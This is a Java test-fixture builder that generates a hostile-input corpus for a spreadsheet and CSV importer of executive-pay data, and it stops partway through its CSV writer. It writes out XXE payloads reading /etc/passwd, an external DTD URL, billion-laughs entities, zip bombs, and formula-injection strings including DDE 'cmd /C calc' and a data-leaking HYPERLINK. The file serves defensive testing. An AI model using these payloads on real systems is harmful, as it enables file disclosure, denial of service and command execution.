package org.sescert.importing;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.Writer;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.function.UnaryOperator;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellStyle;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.SheetVisibility;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;

/**
 * The hostile-input corpus: every file, what it attacks or tests, and what the importer must make
 * of it. The small files are committed under {@code src/test/resources/fixtures/hostile/}; this
 * builder wrote them (run {@code HostileCorpusTests#rewriteTheCommittedCorpus} with
 * {@code -Dsescert.corpus.write=true} to write them again), and it builds at test time the ones
 * too large to commit (the 100 MB cell). Each case has its own cycle id, so that cases never
 * meet in the database.
 */
public final class HostileCorpus {

    public static final Path COMMITTED = Path.of("src/test/resources/fixtures/hostile");

    /** What the importer must make of a file. */
    public sealed interface Expected {
    }

    /** Loaded with no rejects; {@code warning} is a fragment of a warning it must give, or null. */
    public record Loaded(String warning) implements Expected {
    }

    /** Loaded, with exactly these rejects, each "Sheet row column CODE" (column '-' for the row). */
    public record Rejects(Set<String> rejects, String warning) implements Expected {
    }

    /** Refused as a whole (exit 2) with a message holding this fragment; nothing loaded. */
    public record Refused(String fragment) implements Expected {
    }

    /**
     * @param file       the file or folder, under the corpus folder
     * @param cycleId    the cycle it holds
     * @param what       the attack or the reading it shows
     * @param settings   system properties the case runs with (a limit lowered), or empty
     * @param committed  whether it lives in the repository; otherwise it is built at test time
     */
    public record Case(String file, String cycleId, String what, Expected expected, Map<String, String> settings, boolean committed) {
        @Override
        public String toString() {
            return file;
        }
    }

    /** A formula cell: its expression, and the result saved with it (null: none saved). */
    public record Formula(String expression, Object cached) {
    }

    /** The payloads of OWASP's CSV-injection page and their variants: each could start a formula. */
    public static final List<String> INJECTIONS = List.of(
            "=1+1",
            "=HYPERLINK(\"http://example.invalid/?leak=\"&A2,\"Open\")",
            "+1+1",
            "-1+1",
            "@SUM(1+1)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            "=cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@cmd|'/c calc'!_xlbgnm.A1",
            "=DDE(\"cmd\";\"/C calc\";\"!A0\")");

    private static final long HUNDRED_MB = 100L * 1024 * 1024;

    public static List<Case> cases() {
        List<Case> cases = new ArrayList<>();
        // Workbooks that are attacks: refused before anything is read.
        cases.add(refused("xxe-in-sheet.xlsx", "HC01", "an external entity (file:///etc/passwd) in a sheet", "DOCTYPE"));
        cases.add(refused("xxe-in-workbook.xlsx", "HC02", "an external entity in the workbook part", "DOCTYPE"));
        cases.add(refused("xxe-in-shared-strings.xlsx", "HC03", "an external entity in the shared strings", "DOCTYPE"));
        cases.add(refused("xxe-external-dtd.xlsx", "HC04", "an external DTD fetched by URL", "DOCTYPE"));
        cases.add(refused("billion-laughs.xlsx", "HC05", "nested entities expanding to a billion strings, in a sheet", "DOCTYPE"));
        cases.add(refused("billion-laughs-in-content-types.xlsx", "HC06", "the same, in [Content_Types].xml", "has a [Content_Types].xml part that cannot be read"));
        cases.add(refused("zip-bomb-rows.xlsx", "HC07", "a sheet expanding 1,000 times, past its header (found while the rows stream)", "zip bomb"));
        cases.add(refused("zip-bomb-shared-strings.xlsx", "HC08", "shared strings expanding 1,000 times (found before POI opens it)", "zip bomb"));
        cases.add(new Case("oversized-shared-strings.xlsx", "HC09", "a shared-strings table over the limit (lowered to 64 KiB here)",
                new Refused("expands past 65536 bytes, the most read into memory (sescert.import.max-shared-strings-bytes)"),
                Map.of("sescert.import.max-shared-strings-bytes", "65536"), true));
        cases.add(refused("encrypted.xlsx", "HC10", "a password-protected workbook", "is encrypted; save it without a password"));
        cases.add(refused("legacy.xls", "HC11", "an Excel 97-2003 workbook", "is a legacy .xls workbook; save it as .xlsx"));
        cases.add(refused("legacy-renamed.xlsx", "HC12", "an .xls workbook renamed to .xlsx", "is a legacy .xls workbook; save it as .xlsx"));
        cases.add(refused("text-renamed.xlsx", "HC13", "a text file renamed to .xlsx", "it is named .xlsx but holds something else"));
        cases.add(refused("empty.xlsx", "HC14", "an empty file named .xlsx", "empty.xlsx is empty"));
        cases.add(refused("truncated.xlsx", "HC15", "the first half of a workbook", "is damaged or incomplete"));
        cases.add(refused("corrupt-sheet-data.xlsx", "HC16", "a workbook whose Executives sheet's compressed data is damaged", "corrupt-sheet-data.xlsx"));
        cases.add(refused("malformed-sheet-xml.xlsx", "HC17", "a sheet whose XML is not well formed", "holds XML that is not well formed"));
        cases.add(refused("two-sheets-named-alike.xlsx", "HC18", "sheets Pay and Pa_y, which match the same template sheet", "has two sheets named alike, 'Pay' and 'Pa_y'"));
        cases.add(refused("zip-of-other-files.xlsx", "HC19", "a zip with no workbook and no CSV files, named .xlsx", "has no Cycle sheet"));
        // Workbooks read in a defined way.
        cases.add(loaded("formulas-with-results.xlsx", "HC20", "formulas with saved results: the results are read, with a warning",
                "cells hold formulas (first"));
        cases.add(new Case("formulas-without-results.xlsx", "HC21", "formulas saved with no result: their rows are rejected",
                new Rejects(Set.of("Executives 3 final_level FORMULA_WITHOUT_RESULT", "Pay 4 basic_pay_after FORMULA_WITHOUT_RESULT",
                        "Elements 3 executive_id UNKNOWN_EXECUTIVE", "Pay 3 executive_id UNKNOWN_EXECUTIVE"), null), Map.of(), true));
        cases.add(loaded("dates-1904.xlsx", "HC22", "a workbook in the 1904 date system (old Mac Excel): the same dates", null));
        cases.add(new Case("merged-cells.xlsx", "HC23", "a component merged over two rows: the value is the top-left cell's",
                new Rejects(Set.of("Executives 4 component MISSING_VALUE", "Elements 4 executive_id UNKNOWN_EXECUTIVE",
                        "Pay 4 executive_id UNKNOWN_EXECUTIVE"), "1 merged range (D3:D4)"), Map.of(), true));
        cases.add(loaded("hidden-sheets.xlsx", "HC24", "a hidden Pay sheet and a very hidden sheet of notes: read, with a warning",
                "sheet Pay is hidden in the workbook; it is read like any other sheet"));
        cases.add(new Case("cells-over-1000-characters.xlsx", "HC25", "a 40,000-character shared string and inline string",
                new Rejects(Set.of("Executives 2 name VALUE_TOO_LONG", "Executives 3 name VALUE_TOO_LONG", "Elements 2 executive_id UNKNOWN_EXECUTIVE",
                        "Elements 3 executive_id UNKNOWN_EXECUTIVE", "Pay 2 executive_id UNKNOWN_EXECUTIVE", "Pay 3 executive_id UNKNOWN_EXECUTIVE"), null),
                Map.of(), true));
        cases.add(new Case("spreadsheet-errors.xlsx", "HC26", "#N/A and #DIV/0! results of formulas",
                new Rejects(Set.of("Executives 2 final_level CELL_ERROR", "Pay 3 performance_award CELL_ERROR", "Elements 2 executive_id UNKNOWN_EXECUTIVE",
                        "Pay 2 executive_id UNKNOWN_EXECUTIVE"), null), Map.of(), true));
        cases.add(loaded("formula-injection.xlsx", "HC27", "formula-injection payloads in every text column, stored as text", null));
        // CSV files.
        cases.add(loaded("csv-utf8-bom", "HC30", "UTF-8 with a byte-order mark", null));
        cases.add(loaded("csv-utf16-bom", "HC31", "UTF-16LE with a byte-order mark (Excel's Unicode Text, comma separated)", null));
        cases.add(refused("csv-latin1", "HC32", "Latin-1 text (a name with an n-tilde)", "executives.csv is not UTF-8 text: line 3 has a byte"));
        cases.add(loaded("csv-crlf-quoted-newlines", "HC33", "CRLF line ends and a quoted name over two lines", null));
        cases.add(new Case("csv-ragged-rows", "HC34", "rows with a field too many and one too few (after a first row that lines up)",
                new Rejects(Set.of("Executives 3 - RAGGED_ROW", "Executives 4 - RAGGED_ROW", "Elements 3 executive_id UNKNOWN_EXECUTIVE",
                        "Elements 4 executive_id UNKNOWN_EXECUTIVE", "Pay 3 executive_id UNKNOWN_EXECUTIVE", "Pay 4 executive_id UNKNOWN_EXECUTIVE"), null),
                Map.of(), true));
        cases.add(refused("csv-header-out-of-line", "HC35", "a header with a column its first row lacks", "row 2: 10 fields, but the header row has 11"));
        cases.add(new Case("csv-5000-character-cell", "HC36", "a 5,000-character component",
                new Rejects(Set.of("Executives 3 component VALUE_TOO_LONG", "Elements 3 executive_id UNKNOWN_EXECUTIVE", "Pay 3 executive_id UNKNOWN_EXECUTIVE"),
                        null), Map.of(), true));
        cases.add(new Case("csv-100mb-cell", "HC37", "a 100 MB name: read in bounded memory, its row rejected",
                new Rejects(Set.of("Executives 2 name VALUE_TOO_LONG", "Elements 2 executive_id UNKNOWN_EXECUTIVE", "Pay 2 executive_id UNKNOWN_EXECUTIVE"),
                        null), Map.of(), false));
        cases.add(new Case("csv-nul-character", "HC38", "a NUL character in a component",
                new Rejects(Set.of("Executives 2 component BAD_CHARACTER", "Elements 2 executive_id UNKNOWN_EXECUTIVE", "Pay 2 executive_id UNKNOWN_EXECUTIVE"),
                        null), Map.of(), true));
        cases.add(refused("csv-unterminated-quote", "HC39", "a quote opened and never closed", "executives.csv, line 3: a quoted value opens there and never closes"));
        cases.add(refused("csv-zip-bomb.zip", "HC40", "a zip of CSV files whose executives.csv expands 1,000 times", "executives.csv expands to more than 100 times"));
        cases.add(loaded("csv-formula-injection", "HC41", "formula-injection payloads in every text column, stored as text", null));
        return cases;
    }

    private static Case refused(String file, String cycleId, String what, String fragment) {
        return new Case(file, cycleId, what, new Refused(fragment), Map.of(), true);
    }

    private static Case loaded(String file, String cycleId, String what, String warning) {
        return new Case(file, cycleId, what, new Loaded(warning), Map.of(), true);
    }

    /** Where a case's file is: committed, or built into {@code builtDir} (built on first use). */
    public static Path file(Case c, Path builtDir) throws IOException {
        if (c.committed()) {
            return COMMITTED.resolve(c.file());
        }
        Path file = builtDir.resolve(c.file());
        if (!Files.exists(file)) {
            Files.createDirectories(builtDir);
            build(c, file);
        }
        return file;
    }

    /** Writes every committed case into {@code dir}. */
    static void writeCommitted(Path dir) throws IOException {
        Files.createDirectories(dir);
        for (Case c : cases()) {
            if (c.committed()) {
                Path target = dir.resolve(c.file());
                if (Files.isDirectory(target)) {
                    try (var files = Files.list(target)) {
                        for (Path f : files.toList()) {
                            Files.delete(f);
                        }
                    }
                }
                build(c, target);
            }
        }
    }

    // ------------------------------------------------------------------------------------------
    // The clean cycle every case starts from: three executives, each sheet required.

    static Map<String, List<List<Object>>> cleanCycle(String cycleId) {
        Map<String, List<List<Object>>> sheets = new LinkedHashMap<>();
        sheets.put("Cycle", rows(List.of("key", "value"), List.of("agency_code", "HC00"), List.of("agency_name", "Hostile Corpus Agency"),
                List.of("cycle_id", cycleId), List.of("period_start", LocalDate.of(2098, 10, 1)), List.of("period_end", LocalDate.of(2099, 9, 30))));
        sheets.put("Executives", rows(List.of("executive_id", "name", "appointment_type", "component", "rating_official_id", "pay_pool",
                        "appraisal_start", "appraisal_end", "initial_level", "final_level", "final_rating_date"),
                List.of("E1", "Ann Example", "CAREER", "Office A", "RO1", "Pool A", LocalDate.of(2098, 10, 1), LocalDate.of(2099, 9, 30), 4, 4, LocalDate.of(2099, 11, 2)),
                List.of("E2", "Bo Example", "CAREER", "Office A", "RO1", "Pool A", LocalDate.of(2098, 10, 1), LocalDate.of(2099, 9, 30), 3, 3, LocalDate.of(2099, 11, 3)),
                List.of("E3", "Cy Example", "NONCAREER", "Office B", "RO2", "Pool B", LocalDate.of(2098, 12, 15), LocalDate.of(2099, 9, 30), 5, 5, LocalDate.of(2099, 11, 4))));
        sheets.put("Elements", rows(List.of("executive_id", "element", "weight", "level"),
                List.of("E1", "RESULTS_DRIVEN", 100, 4), List.of("E2", "RESULTS_DRIVEN", 100, 3), List.of("E3", "RESULTS_DRIVEN", 100, 5)));
        sheets.put("Pay", rows(List.of("executive_id", "basic_pay_before", "basic_pay_after", "performance_award"),
                List.of("E1", 200000, 205000, 12000), List.of("E2", 190000, 194000, 0), List.of("E3", 180000, 185000, 0)));
        sheets.put("OrgAssessments", rows(List.of("component", "score", "level", "source"),
                List.of("Office A", 80, 4, "Annual report p. 3"), List.of("Office B", 65, 3, "Annual report p. 4")));
        sheets.put("PRBMembers", rows(List.of("prb_id", "member_id", "appointment_type"),
                List.of("P1", "M1", "CAREER"), List.of("P1", "M2", "CAREER"), List.of("P1", "M3", "CAREER")));
        return sheets;
    }

    @SafeVarargs
    private static List<List<Object>> rows(List<?>... rows) {
        List<List<Object>> all = new ArrayList<>();
        for (List<?> row : rows) {
            all.add(new ArrayList<>(row));
        }
        return all;
    }

    /** Puts a payload in every text column of every row (keys keep a suffix so that they stay unique). */
    static Map<String, List<List<Object>>> injected(String cycleId) {
        Map<String, List<List<Object>>> sheets = cleanCycle(cycleId);
        Set<String> textColumns = Set.of("executive_id", "name", "component", "rating_official_id", "pay_pool", "source", "prb_id", "member_id");
        // One payload per value, in the order first met, so that an executive or component keeps its (payload) id on every sheet.
        Map<Object, String> payloads = new LinkedHashMap<>();
        for (Map.Entry<String, List<List<Object>>> sheet : sheets.entrySet()) {
            if (sheet.getKey().equals("Cycle")) {
                continue;
            }
            List<Object> header = sheet.getValue().get(0);
            for (List<Object> row : sheet.getValue().subList(1, sheet.getValue().size())) {
                for (int i = 0; i < header.size(); i++) {
                    if (textColumns.contains(header.get(i))) {
                        Object original = row.get(i);
                        row.set(i, payloads.computeIfAbsent(original, o -> INJECTIONS.get(payloads.size() % INJECTIONS.size()) + "|" + o));
                    }
                }
            }
        }
        return sheets;
    }

    // ------------------------------------------------------------------------------------------

    private static void build(Case c, Path file) throws IOException {
        try {
            buildOrFail(c, file);
        } catch (java.security.GeneralSecurityException e) {
            throw new IOException(e);
        }
    }

    private static void buildOrFail(Case c, Path file) throws IOException, java.security.GeneralSecurityException {
        String id = c.cycleId();
        switch (c.file()) {
            case "xxe-in-sheet.xlsx" -> edited(cleanCycle(id), file, Map.of("xl/worksheets/sheet1.xml", xml -> withDoctype(xml,
                    "<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>").replace("<sheetData>",
                    "<sheetData><row r=\"7\"><c r=\"A7\" t=\"inlineStr\"><is><t>agency_name</t></is></c><c r=\"B7\" t=\"inlineStr\"><is><t>&xxe;</t></is></c></row>")));
            case "xxe-in-workbook.xlsx" -> edited(cleanCycle(id), file, Map.of("xl/workbook.xml", xml -> withDoctype(xml,
                    "<!DOCTYPE workbook [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>").replace("name=\"Cycle\"", "name=\"&xxe;\"")));
            case "xxe-in-shared-strings.xlsx" -> edited(cleanCycle(id), file, Map.of("xl/sharedStrings.xml", xml -> withDoctype(xml,
                    "<!DOCTYPE sst [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>").replace(">Hostile Corpus Agency<", ">&xxe;<")));
            case "xxe-external-dtd.xlsx" -> edited(cleanCycle(id), file, Map.of("xl/worksheets/sheet2.xml", xml -> withDoctype(xml,
                    "<!DOCTYPE worksheet SYSTEM \"http://example.invalid/evil.dtd\">")));
            case "billion-laughs.xlsx" -> edited(cleanCycle(id), file, Map.of("xl/worksheets/sheet1.xml", xml -> withDoctype(xml, laughs())
                    .replace("<sheetData>", "<sheetData><row r=\"7\"><c r=\"A7\" t=\"inlineStr\"><is><t>&lol9;</t></is></c></row>")));
            case "billion-laughs-in-content-types.xlsx" -> edited(cleanCycle(id), file, Map.of("[Content_Types].xml", xml -> withDoctype(xml, laughs())
                    .replace("<Types ", "<Types data=\"&lol9;\" ")));
            case "zip-bomb-rows.xlsx" -> edited(cleanCycle(id), file, Map.of("xl/worksheets/sheet2.xml", xml -> xml.replace("</sheetData>",
                    "</sheetData><!--" + " ".repeat(60 * 1024 * 1024) + "-->")));
            case "zip-bomb-shared-strings.xlsx" -> edited(cleanCycle(id), file, Map.of("xl/sharedStrings.xml", xml -> xml.replace("</sst>",
                    "<!--" + " ".repeat(60 * 1024 * 1024) + "--></sst>")));
            case "oversized-shared-strings.xlsx" -> {
                Map<String, List<List<Object>>> sheets = cleanCycle(id);
                Random random = new Random(9);
                for (int i = 0; i < 3000; i++) {
                    // Distinct, incompressible-enough text: a real table, not a bomb.
                    sheets.get("OrgAssessments").add(new ArrayList<>(List.of("Office " + Long.toString(random.nextLong(), 36), 50, 3, "p. " + i)));
                }
                xlsx(sheets, file, null);
            }
            case "encrypted.xlsx" -> {
                Path plain = Files.createTempFile("plain", ".xlsx");
                xlsx(cleanCycle(id), plain, null);
                try (POIFSFileSystem fs = new POIFSFileSystem()) {
                    Encryptor encryptor = new EncryptionInfo(EncryptionMode.agile).getEncryptor();
                    encryptor.confirmPassword("secret");
                    try (OutputStream os = encryptor.getDataStream(fs)) {
                        Files.copy(plain, os);
                    }
                    try (OutputStream out = Files.newOutputStream(file)) {
                        fs.writeFilesystem(out);
                    }
                }
                Files.delete(plain);
            }
            case "legacy.xls", "legacy-renamed.xlsx" -> {
                try (HSSFWorkbook workbook = new HSSFWorkbook(); OutputStream out = Files.newOutputStream(file)) {
                    workbook.createSheet("Cycle").createRow(0).createCell(0).setCellValue("key");
                    workbook.write(out);
                }
            }
            case "text-renamed.xlsx" -> Files.writeString(file, "executive_id,name\nE1,Ann Example\n");
            case "empty.xlsx" -> Files.write(file, new byte[0]);
            case "truncated.xlsx" -> {
                ByteArrayOutputStream whole = new ByteArrayOutputStream();
                Path tmp = Files.createTempFile("whole", ".xlsx");
                xlsx(cleanCycle(id), tmp, null);
                byte[] bytes = Files.readAllBytes(tmp);
                Files.delete(tmp);
                whole.write(bytes, 0, bytes.length / 2);
                Files.write(file, whole.toByteArray());
            }
            case "corrupt-sheet-data.xlsx" -> {
                Path tmp = Files.createTempFile("whole", ".xlsx");
                xlsx(cleanCycle(id), tmp, null);
                byte[] bytes = Files.readAllBytes(tmp);
                Files.delete(tmp);
                int at = indexOf(bytes, "xl/worksheets/sheet2.xml".getBytes(StandardCharsets.US_ASCII));
                // Past the local header (30 bytes + name), into the compressed data.
                for (int i = at + 40; i < at + 140 && i < bytes.length; i++) {
                    bytes[i] = (byte) 0xFF;
                }
                Files.write(file, bytes);
            }
            case "malformed-sheet-xml.xlsx" -> edited(cleanCycle(id), file, Map.of("xl/worksheets/sheet3.xml", xml -> xml.replace("</sheetData>", "<row></sheetData>")));
            case "two-sheets-named-alike.xlsx" -> {
                Map<String, List<List<Object>>> sheets = cleanCycle(id);
                sheets.put("Pa_y", sheets.get("Pay"));
                xlsx(sheets, file, null);
            }
            case "zip-of-other-files.xlsx" -> {
                try (ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(file))) {
                    entry(zip, "readme.txt", "not a workbook".getBytes(StandardCharsets.UTF_8));
                    entry(zip, "word/document.xml", "<document/>".getBytes(StandardCharsets.UTF_8));
                }
            }
            case "formulas-with-results.xlsx" -> {
                Map<String, List<List<Object>>> sheets = cleanCycle(id);
                List<List<Object>> pay = sheets.get("Pay");
                pay.get(1).set(2, new Formula("B2*1.025", 205000.0));
                pay.get(2).set(2, new Formula("B3+4000", 194000.0));
                sheets.get("Executives").get(1).set(9, new Formula("I2", 4.0));
                sheets.get("Executives").get(3).set(3, new Formula("\"Office \"&\"B\"", "Office B"));
                xlsx(sheets, file, null);
            }
            case "formulas-without-results.xlsx" -> {
                Map<String, List<List<Object>>> sheets = cleanCycle(id);
                sheets.get("Executives").get(2).set(9, new Formula("1+2", null));
                sheets.get("Pay").get(3).set(2, new Formula("B4*1.03", null));
                xlsx(sheets, file, null);
            }
            case "dates-1904.xlsx" -> xlsx(cleanCycle(id), file, workbook -> {
                var ct = workbook.getCTWorkbook();
                (ct.isSetWorkbookPr() ? ct.getWorkbookPr() : ct.addNewWorkbookPr()).setDate1904(true);
            });
            case "merged-cells.xlsx" -> {
                Map<String, List<List<Object>>> sheets = cleanCycle(id);
                sheets.get("Executives").get(3).set(3, null);
                xlsx(sheets, file, workbook -> workbook.getSheet("Executives").addMergedRegion(new CellRangeAddress(2, 3, 3, 3)));
            }
            case "hidden-sheets.xlsx" -> {
                Map<String, List<List<Object>>> sheets = cleanCycle(id);
                sheets.put("Notes", rows(List.of("note"), List.of("left over from last year")));
                xlsx(sheets, file, workbook -> {
                    workbook.setSheetVisibility(workbook.getSheetIndex("Pay"), SheetVisibility.HIDDEN);
                    workbook.setSheetVisibility(workbook.getSheetIndex("Notes"), SheetVisibility.VERY_HIDDEN);
                });
            }
            case "cells-over-1000-characters.xlsx" -> {
                Map<String, List<List<Object>>> sheets = cleanCycle(id);
                sheets.get("Executives").get(1).set(1, "LONG-SHARED-NAME");
                sheets.get("Executives").get(2).set(1, "LONG-INLINE-NAME");
                String long1 = "x".repeat(40_000);
                edited(sheets, file, Map.of("xl/sharedStrings.xml", xml -> xml.replace(">LONG-SHARED-NAME<", ">" + long1 + "<").replace(">LONG-INLINE-NAME<", ">short<"),
                        "xl/worksheets/sheet2.xml", xml -> inlineCell(xml, "B3", long1)));
            }
            case "spreadsheet-errors.xlsx" -> {
                Map<String, List<List<Object>>> sheets = cleanCycle(id);
                sheets.get("Executives").get(1).set(9, new Formula("NA()", "#N/A"));
                sheets.get("Pay").get(2).set(3, new Formula("1/0", "#DIV/0!"));
                xlsx(sheets, file, null);
            }
            case "formula-injection.xlsx" -> xlsx(injected(id), file, null);
            case "csv-utf8-bom" -> csv(cleanCycle(id), file, StandardCharsets.UTF_8, "\uFEFF", "\n");
            case "csv-utf16-bom" -> csv(cleanCycle(id), file, StandardCharsets.UTF_16LE, "\uFEFF", "\r\n");
            case "csv-latin1" -> {
                Map<String, List<List<Object>>> sheets = cleanCycle(id);
                sheets.get("Executives").get(2).set(1, "Bo Pe\u00f1a");
                csv(sheets, file, StandardCharsets.ISO_8859_1, "", "\n");
            }
            case "csv-crlf-quoted-newlines" -> {
                Map<String, List<List<Object>>> sheets = cleanCycle(id);
                sheets.get("Executives").get(2).set(1, "Bo\r\nExample");
                sheets.get("OrgAssessments").get(1).set(3, "Annual report,\r\np. 3 \"table 2\"");
                csv(sheets, file, StandardCharsets.UTF_8, "", "\r\n");
            }
            case "csv-ragged-rows" -> {
                csv(cleanCycle(id), file, StandardCharsets.UTF_8, "", "\n");
                List<String> lines = new ArrayList<>(Files.readAllLines(file.resolve("executives.csv")));
                lines.set(2, lines.get(2) + ",extra");
                lines.set(3, lines.get(3).substring(0, lines.get(3).lastIndexOf(',')));
                Files.write(file.resolve("executives.csv"), lines);
            }
            case "csv-header-out-of-line" -> {
                csv(cleanCycle(id), file, StandardCharsets.UTF_8, "", "\n");
                List<String> lines = new ArrayList<>(Files.readAllLines(file.resolve("executives.csv")));
                for (int i = 1; i < lines.size(); i++) {
                    lines.set(i, lines.get(i).substring(0, lines.get(i).lastIndexOf(',')));
                }
                Files.write(file.resolve("executives.csv"), lines);
            }
            case "csv-5000-character-cell" -> {
                Map<String, List<List<Object>>> sheets = cleanCycle(id);
                sheets.get("Executives").get(2).set(3, "Office " + "A".repeat(5000));
                csv(sheets, file, StandardCharsets.UTF_8, "", "\n");
            }
            case "csv-100mb-cell" -> {
                Map<String, List<List<Object>>> sheets = cleanCycle(id);
                sheets.get("Executives").get(1).set(1, "HUGE-NAME");
                csv(sheets, file, StandardCharsets.UTF_8, "", "\n");
                Path executives = file.resolve("executives.csv");
                String text = Files.readString(executives);
                int at = text.indexOf("HUGE-NAME");
                try (Writer out = Files.newBufferedWriter(executives, StandardCharsets.UTF_8)) {
                    out.write(text, 0, at);
                    char[] chunk = new char[1024 * 1024];
                    Arrays.fill(chunk, 'n');
                    for (long written = 0; written < HUNDRED_MB; written += chunk.length) {
                        out.write(chunk);
                    }
                    out.write(text, at + "HUGE-NAME".length(), text.length() - at - "HUGE-NAME".length());
                }
            }
            case "csv-nul-character" -> {
                Map<String, List<List<Object>>> sheets = cleanCycle(id);
                sheets.get("Executives").get(1).set(3, "Office\u0000A");
                csv(sheets, file, StandardCharsets.UTF_8, "", "\n");
            }
            case "csv-unterminated-quote" -> {
                csv(cleanCycle(id), file, StandardCharsets.UTF_8, "", "\n");
                List<String> lines = new ArrayList<>(Files.readAllLines(file.resolve("executives.csv")));
                lines.set(2, lines.get(2).replace(",Bo Example,", ",\"Bo Example,"));
                Files.write(file.resolve("executives.csv"), lines);
            }
            case "csv-zip-bomb.zip" -> {
                Path dir = Files.createTempDirectory("bomb");
                csv(cleanCycle(id), dir, StandardCharsets.UTF_8, "", "\n");
                try (ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(file)); var files = Files.list(dir)) {
                    for (Path f : files.sorted().toList()) {
                        byte[] bytes = Files.readAllBytes(f);
                        if (f.getFileName().toString().equals("executives.csv")) {
                            ByteArrayOutputStream padded = new ByteArrayOutputStream();
                            padded.write(bytes);
                            padded.write("\n".repeat(60 * 1024 * 1024).getBytes(StandardCharsets.US_ASCII));
                            bytes = padded.toByteArray();
                        }
                        entry(zip, f.getFileName().toString(), bytes);
                        Files.delete(f);
                    }
                }
                Files.delete(dir);
            }
            case "csv-formula-injection" -> csv(injected(id), file, StandardCharsets.UTF_8, "", "\n");
            default -> throw new IllegalArgumentException("no builder for " + c.file());
        }
    }

    private static String laughs() {
        StringBuilder dtd = new StringBuilder("<!DOCTYPE lolz [<!ENTITY lol \"lol\">");
        for (int i = 1; i <= 9; i++) {
            dtd.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i == 1 ? "" : String.valueOf(i - 1)) + ";").repeat(10)).append("\">");
        }
        return dtd.append("]>").toString();
    }

    private static String withDoctype(String xml, String doctype) {
        int end = xml.startsWith("<?xml") ? xml.indexOf("?>") + 2 : 0;
        return xml.substring(0, end) + doctype + xml.substring(end);
    }

    /** Replaces a cell of a sheet's XML with an inline string. */
    private static String inlineCell(String xml, String reference, String text) {
        int start = xml.indexOf("<c r=\"" + reference + "\"");
        int end = xml.indexOf("</c>", start) + 4;
        return xml.substring(0, start) + "<c r=\"" + reference + "\" t=\"inlineStr\"><is><t>" + text + "</t></is></c>" + xml.substring(end);
    }

    private static int indexOf(byte[] bytes, byte[] what) {
        outer:
        for (int i = 0; i + what.length <= bytes.length; i++) {
            for (int j = 0; j < what.length; j++) {
                if (bytes[i + j] != what[j]) {
                    continue outer;
                }
            }
            return i;
        }
        throw new IllegalStateException("not found");
    }

    interface WorkbookEdit {
        void apply(XSSFWorkbook workbook);
    }

    /** The sheets as an .xlsx workbook written by POI's user model (shared strings, date styles, formulas). */
    static void xlsx(Map<String, List<List<Object>>> sheets, Path file, WorkbookEdit edit) throws IOException {
        try (XSSFWorkbook workbook = new XSSFWorkbook()) {
            CellStyle date = workbook.createCellStyle();
            date.setDataFormat(workbook.createDataFormat().getFormat("yyyy-mm-dd"));
            for (String name : sheets.keySet()) {
                workbook.createSheet(name);
            }
            // Before any cell is written: the date system decides how dates are stored.
            if (edit != null) {
                edit.apply(workbook);
            }
            for (Map.Entry<String, List<List<Object>>> entry : sheets.entrySet()) {
                XSSFSheet sheet = workbook.getSheet(entry.getKey());
                int r = 0;
                for (List<Object> values : entry.getValue()) {
                    Row row = sheet.createRow(r++);
                    for (int c = 0; c < values.size(); c++) {
                        Object value = values.get(c);
                        if (value == null) {
                            continue;
                        }
                        Cell cell = row.createCell(c);
                        if (value instanceof Formula f) {
                            cell.setCellFormula(f.expression());
                            if (f.cached() instanceof Double d) {
                                cell.setCellValue(d);
                            } else if (f.cached() instanceof String s && s.startsWith("#")) {
                                cell.setCellErrorValue(org.apache.poi.ss.usermodel.FormulaError.forString(s).getCode());
                            } else if (f.cached() instanceof String s) {
                                cell.setCellValue(s);
                            } else {
                                var ct = ((org.apache.poi.xssf.usermodel.XSSFCell) cell).getCTCell();
                                if (ct.isSetV()) {
                                    ct.unsetV();
                                }
                            }
                        } else if (value instanceof Number n) {
                            cell.setCellValue(n.doubleValue());
                        } else if (value instanceof LocalDate d) {
                            cell.setCellValue(d);
                            cell.setCellStyle(date);
                        } else {
                            cell.setCellValue(value.toString());
                        }
                    }
                }
            }
            try (OutputStream out = Files.newOutputStream(file)) {
                workbook.write(out);
            }
        }
    }

    /** A workbook of these sheets with some of its parts' XML edited. */
    private static void edited(Map<String, List<List<Object>>> sheets, Path file, Map<String, UnaryOperator<String>> edits) throws IOException {
        Path plain = Files.createTempFile("plain", ".xlsx");
        xlsx(sheets, plain, null);
        try (ZipInputStream in = new ZipInputStream(Files.newInputStream(plain)); ZipOutputStream out = new ZipOutputStream(Files.newOutputStream(file))) {
            for (ZipEntry entry = in.getNextEntry(); entry != null; entry = in.getNextEntry()) {
                byte[] bytes = in.readAllBytes();
                UnaryOperator<String> edit = edits.get(entry.getName());
                if (edit != null) {
                    bytes = edit.apply(new String(bytes, StandardCharsets.UTF_8)).getBytes(StandardCharsets.UTF_8);
                }
                entry(out, entry.getName(), bytes);
            }
        }
        Files.delete(plain);
    }

    private static void entry(ZipOutputStream zip, String name, byte[] bytes) throws IOException {
        ZipEntry entry = new ZipEntry(name);
        entry.setTime(0);
        zip.putNextEntry(entry);
        zip.write(bytes);
        zip.closeEntry();
    }

    /** The sheets as CSV files in a folder: RFC 4180 quoting, the given encoding, start (a BOM) and line end. */
    static void csv(Map<String, List<List<Object>>> sheets, Path dir, Charset charset, String start, String lineEnd) throws IOException {
